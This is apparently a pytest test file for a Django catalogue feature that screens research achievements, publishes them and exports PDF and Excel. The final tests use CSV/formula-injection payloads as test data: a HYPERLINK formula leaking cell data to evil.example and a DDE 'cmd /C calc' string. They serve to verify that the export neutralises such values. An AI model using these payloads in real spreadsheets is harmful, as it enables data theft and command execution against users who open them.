"""Catalogues (成果目录): staff screen achievements into a catalogue, publish it, export PDF and Excel."""

from __future__ import annotations

import hashlib
import io
from unittest.mock import patch

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from techbridge.core.models import AuditEntry, GeneratedDocument
from techbridge.core.workflow import ReviewStatus
from techbridge.lib.pdf import pdf_fonts, pdf_text
from techbridge.mining import catalogues as svc
from techbridge.mining.models import Catalogue, CatalogueEntry
from techbridge.taxonomy.models import IndustryField
from techbridge.testing.factories import AchievementFactory, publish

pytestmark = pytest.mark.django_db


@pytest.fixture
def achievements(cast):
    out = []
    for title in ("高通量陶瓷膜油水分离技术", "轨道车辆轴承声学诊断", "北斗高精度定位终端"):
        a = AchievementFactory(owner=cast.university, title=title)
        publish(a)
        out.append(a)
    out[0].fields.add(IndustryField.objects.get(code="materials"))
    return out


@pytest.fixture
def catalogue(cast, achievements):
    c = svc.create_catalogue(
        actor=cast.reviewer, title="2026年南京高校新材料成果目录", description="面向企业推介。"
    )
    svc.add_achievements(c, [a.pk for a in achievements], actor=cast.reviewer)
    return c


def test_staff_screen_add_order_note_and_publish(cast, client, achievements):
    client.force_login(cast.operator)
    response = client.post(reverse("mining_console:catalogues"), {"title": "测试目录", "description": ""})
    catalogue = Catalogue.objects.get()
    assert response["Location"] == reverse("mining_console:catalogue_edit", args=[catalogue.pk])
    # Screening: filter by industry field, then add what was selected.
    page = client.get(reverse("mining_console:catalogue_edit", args=[catalogue.pk]), {"field": "materials"})
    assert page.context["result"].total == 1
    client.post(
        reverse("mining_console:catalogue_add", args=[catalogue.pk]),
        {"achievements": [achievements[0].pk, achievements[2].pk]},
    )
    entries = list(catalogue.entries.order_by("position"))
    assert [e.achievement_id for e in entries] == [achievements[0].pk, achievements[2].pk]
    client.post(
        reverse("mining_console:catalogue_entry", args=[catalogue.pk, entries[1].pk]), {"action": "up"}
    )
    client.post(
        reverse("mining_console:catalogue_entry", args=[catalogue.pk, entries[1].pk]),
        {"action": "note", "note": "推荐重点关注"},
    )
    assert [e.achievement_id for e in catalogue.entries.order_by("position")] == [
        achievements[2].pk,
        achievements[0].pk,
    ]
    assert catalogue.entries.get(pk=entries[1].pk).note == "推荐重点关注"
    client.post(reverse("mining_console:catalogue_publish", args=[catalogue.pk]))
    catalogue.refresh_from_db()
    assert catalogue.status == "published" and catalogue.published_at is not None
    assert AuditEntry.objects.filter(
        action="mining.catalogue.published", object_id=str(catalogue.pk)
    ).exists()


def test_adding_twice_or_unpublished_achievements_adds_nothing(cast, catalogue):
    draft = AchievementFactory(owner=cast.university)
    assert (
        svc.add_achievements(
            catalogue, [draft.pk, catalogue.entries.first().achievement_id], actor=cast.reviewer
        )
        == 0
    )
    assert catalogue.entries.count() == 3


def test_empty_catalogue_cannot_be_published(cast, client):
    c = svc.create_catalogue(actor=cast.reviewer, title="空目录")
    client.force_login(cast.reviewer)
    client.post(reverse("mining_console:catalogue_publish", args=[c.pk]))
    c.refresh_from_db()
    assert c.status == "draft"


def test_published_page_is_public_and_hides_withdrawn_achievements(cast, client, catalogue, achievements):
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    type(achievements[1]).objects.filter(pk=achievements[1].pk).update(status=ReviewStatus.WITHDRAWN)
    response = client.get(reverse("mining:catalogue_detail", args=[catalogue.pk]))
    html = response.content.decode()
    assert response.status_code == 200 and achievements[0].title in html and achievements[1].title not in html
    assert catalogue.title in client.get(reverse("mining:catalogues")).content.decode()


def test_draft_catalogue_is_hidden_from_the_public(cast, client, catalogue):
    for user in (None, cast.buyer, cast.official):
        if user:
            client.force_login(user)
        assert client.get(reverse("mining:catalogue_detail", args=[catalogue.pk])).status_code == 404
        assert client.get(reverse("mining:catalogue_pdf", args=[catalogue.pk])).status_code == 404
    client.force_login(cast.reviewer)
    assert client.get(reverse("mining:catalogue_detail", args=[catalogue.pk])).status_code == 200


@pytest.mark.parametrize("who", ["buyer", "researcher", "official", "outsider"])
def test_only_staff_edit_catalogues(cast, client, catalogue, who):
    client.force_login(getattr(cast, who))
    assert client.get(reverse("mining_console:catalogues")).status_code == 403
    response = client.post(reverse("mining_console:catalogue_publish", args=[catalogue.pk]))
    assert response.status_code == 403
    catalogue.refresh_from_db()
    assert catalogue.status == "draft"


def _download(client, url):
    response = client.get(url)
    return response, b"".join(response.streaming_content) if response.streaming else response.content


def test_pdf_export_has_chinese_text_and_an_embedded_cjk_font(
    cast, client, catalogue, achievements, django_capture_on_commit_callbacks
):
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    url = reverse("mining:catalogue_pdf", args=[catalogue.pk])
    with django_capture_on_commit_callbacks(execute=True):
        first = client.get(url)
    # The request does not typeset: it queues the PDF and says, in Chinese, that it is being made.
    assert first.status_code == 202 and "正在生成" in first.content.decode()
    response, content = _download(client, url)
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = pdf_text(content)
    assert "南京高校新材料成果目录" in text.replace("\n", "") and "陶瓷膜" in text
    assert any("CJK" in name for name in pdf_fonts(content))
    doc = GeneratedDocument.objects.get(kind="mining.catalogue", object_id=catalogue.pk)
    assert doc.sha256 == hashlib.sha256(content).hexdigest() == response["X-Document-SHA256"]


def test_anonymous_repeated_downloads_render_the_catalogue_once(
    cast, client, catalogue, achievements, django_capture_on_commit_callbacks
):
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    url = reverse("mining:catalogue_pdf", args=[catalogue.pk])
    with patch.object(svc, "render_catalogue_pdf", wraps=svc.render_catalogue_pdf) as spy:
        _register_again()
        for _ in range(4):
            with django_capture_on_commit_callbacks(execute=True):
                client.get(url)
        statuses = [client.get(url).status_code for _ in range(3)]
    assert spy.call_count == 1 and statuses == [200, 200, 200]
    assert GeneratedDocument.objects.filter(kind="mining.catalogue").count() == 1


def test_new_catalogue_content_makes_a_new_version(
    cast, client, catalogue, achievements, django_capture_on_commit_callbacks
):
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    url = reverse("mining:catalogue_pdf", args=[catalogue.pk])
    with django_capture_on_commit_callbacks(execute=True):
        client.get(url)
    Catalogue.objects.filter(pk=catalogue.pk).update(description="新增说明：2026年第二批")
    with django_capture_on_commit_callbacks(execute=True):
        assert client.get(url).status_code == 202
    _response, content = _download(client, url)
    assert "第二批" in pdf_text(content)
    assert GeneratedDocument.objects.filter(kind="mining.catalogue", status="ready").count() == 2


def test_a_failed_catalogue_pdf_says_so_in_chinese_and_can_be_retried(
    cast, client, catalogue, achievements, django_capture_on_commit_callbacks
):
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    url = reverse("mining:catalogue_pdf", args=[catalogue.pk])
    with patch.object(svc, "render_catalogue_pdf", side_effect=RuntimeError("typesetter crashed")):
        _register_again()
        with django_capture_on_commit_callbacks(execute=True):
            client.get(url)
        page = client.get(url)
    _register_again()
    html = page.content.decode()
    assert page.status_code == 200 and "无法生成" in html and "重试" in html and "typesetter" not in html
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url)
    response, content = _download(client, url)
    assert response.status_code == 200 and "陶瓷膜" in pdf_text(content)
    doc = GeneratedDocument.objects.get(kind="mining.catalogue")
    assert doc.status == "ready" and doc.attempts == 2


def test_a_download_of_a_stored_catalogue_never_calls_the_renderer(
    cast, client, catalogue, achievements, django_capture_on_commit_callbacks
):
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    url = reverse("mining:catalogue_pdf", args=[catalogue.pk])
    with django_capture_on_commit_callbacks(execute=True):
        client.get(url)
    with patch("techbridge.lib.pdf.html_to_pdf", side_effect=AssertionError("rendered in the request")):
        client.force_login(cast.buyer)
        response, content = _download(client, url)
    assert response.status_code == 200 and content.startswith(b"%PDF")


def _register_again():
    """The kind holds the renderer it was registered with: register it again to see a patch."""
    from techbridge.mining import extensions

    extensions.register()


def test_excel_export_lists_entries_in_order_with_notes(cast, client, catalogue, achievements):
    entry = catalogue.entries.get(achievement=achievements[1])
    svc.set_note(entry, "适合轨交企业", actor=cast.reviewer)
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    response = client.get(reverse("mining:catalogue_xlsx", args=[catalogue.pk]))
    wb = load_workbook(io.BytesIO(response.content), read_only=True)
    rows = list(wb["成果目录"].iter_rows(values_only=True))
    assert rows[0][:2] == ("序号", "成果名称")
    assert [r[1] for r in rows[1:]] == [a.title for a in achievements]
    assert rows[2][12] == "适合轨交企业" and rows[1][9] == "面议"


def test_excel_export_masks_phones_and_emails_typed_into_a_summary(cast, client, catalogue, achievements):
    """Issue 20 (PIPL): contact details a user wrote into free text never leave whole in an export."""
    achievements[0].summary = "本成果可用于隔膜量产。联系人 13912345678 abc@x.cn"
    achievements[0].save(update_fields=["summary"])
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    response = client.get(reverse("mining:catalogue_xlsx", args=[catalogue.pk]))
    ws = load_workbook(io.BytesIO(response.content))["成果目录"]
    written = [str(c.value) for row in ws.iter_rows() for c in row if c.value]
    assert "本成果可用于隔膜量产。联系人 139****5678 a***@x.cn" in written
    assert not any("13912345678" in w or "abc@x.cn" in w for w in written)


def test_catalogue_page_query_count_is_bounded(cast, client, catalogue, pinned_queries):
    for n in range(10):
        a = AchievementFactory(owner=cast.university, title=f"目录成果{n}", published=True)
        svc.add_achievements(catalogue, [a.pk], actor=cast.reviewer)
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    with pinned_queries("catalogue"):
        page = client.get(reverse("mining:catalogue_detail", args=[catalogue.pk])).content.decode()
    assert all(f"目录成果{n}" in page for n in range(10))


def test_console_edit_page_query_count_is_bounded(cast, client, catalogue, achievements, pinned_queries):
    client.force_login(cast.reviewer)
    with pinned_queries("edit"):
        response = client.get(reverse("mining_console:catalogue_edit", args=[catalogue.pk]))
    assert [e.achievement_id for e in response.context["entries"]] == [a.pk for a in achievements]


def test_removing_an_entry_is_audited(cast, catalogue):
    entry = catalogue.entries.first()
    svc.remove_entry(entry, actor=cast.reviewer)
    assert not CatalogueEntry.objects.filter(pk=entry.pk).exists()
    assert AuditEntry.objects.filter(action="mining.catalogue.entry_removed").exists()


# ---- API -------------------------------------------------------------------------------------------


def test_api_staff_build_and_publish_and_the_public_reads(cast, client, achievements):
    client.force_login(cast.reviewer)
    response = client.post(
        reverse("api:mining-catalogue-list"), {"title": "API 目录"}, content_type="application/json"
    )
    assert response.status_code == 201, response.content
    pk = response.json()["id"]
    response = client.post(
        reverse("api:mining-catalogue-entries", args=[pk]),
        {"achievements": [achievements[1].pk]},
        content_type="application/json",
    )
    assert [e["achievement_id"] for e in response.json()["entries"]] == [achievements[1].pk]
    assert client.post(reverse("api:mining-catalogue-publish", args=[pk])).json()["status"] == "published"
    client.logout()
    assert (
        client.get(reverse("api:mining-catalogue-detail", args=[pk])).json()["entries"][0]["title"]
        == achievements[1].title
    )
    assert client.post(
        reverse("api:mining-catalogue-list"), {"title": "x"}, content_type="application/json"
    ).status_code in (401, 403)


def test_api_hides_drafts_from_members(cast, client, catalogue):
    client.force_login(cast.buyer)
    assert client.get(reverse("api:mining-catalogue-list")).json()["count"] == 0
    assert client.get(reverse("api:mining-catalogue-detail", args=[catalogue.pk])).status_code == 404
    assert client.post(reverse("api:mining-catalogue-publish", args=[catalogue.pk])).status_code == 403


def test_api_publishing_an_empty_catalogue_is_a_clear_error(cast, client):
    client.force_login(cast.reviewer)
    c = svc.create_catalogue(actor=cast.reviewer, title="空")
    response = client.post(reverse("api:mining-catalogue-publish", args=[c.pk]))
    assert response.status_code == 400 and response.json()["message"]


def test_add_all_that_match_takes_the_whole_screening(cast, client, achievements):
    c = svc.create_catalogue(actor=cast.operator, title="领域目录")
    client.force_login(cast.operator)
    client.post(
        reverse("mining_console:catalogue_add", args=[c.pk]), {"all": "1", "next": "?field=materials"}
    )
    assert list(c.entries.values_list("achievement_id", flat=True)) == [achievements[0].pk]
    client.post(reverse("mining_console:catalogue_add", args=[c.pk]), {"all": "1", "next": "?"})
    assert c.entries.count() == 3


def test_excel_export_never_writes_a_title_as_a_live_formula(cast, client, catalogue, achievements):
    """Issue 20 point 2: user text starting with = + - @ (or tab/CR) is written as inert text."""
    evil = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
    achievements[0].title = evil
    achievements[0].save(update_fields=["title"])
    entry = catalogue.entries.get(achievement=achievements[1])
    svc.set_note(entry, "@SUM(1+1)", actor=cast.reviewer)
    svc.publish_catalogue(catalogue, actor=cast.reviewer)
    response = client.get(reverse("mining:catalogue_xlsx", args=[catalogue.pk]))
    ws = load_workbook(io.BytesIO(response.content))["成果目录"]
    title_cell, note_cell = ws.cell(row=2, column=2), ws.cell(row=3, column=13)
    assert title_cell.data_type == "s" and title_cell.value == "'" + evil
    assert note_cell.data_type == "s" and note_cell.value == "'@SUM(1+1)"
    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),  # XML stores a bare CR as a line feed
        ("-12.5", "-12.5"),
        ("-", "-"),
        ("南京 = 科技", "南京 = 科技"),
    ],
)
def test_xlsx_writer_neutralises_formula_triggers(text, written):
    from techbridge.lib.xlsx import Sheet, workbook_bytes

    ws = load_workbook(io.BytesIO(workbook_bytes([Sheet("s", [text], [[text]])])))["s"]
    assert ws.cell(row=1, column=1).value == written and ws.cell(row=2, column=1).value == written
    assert ws.cell(row=2, column=1).data_type == "s"
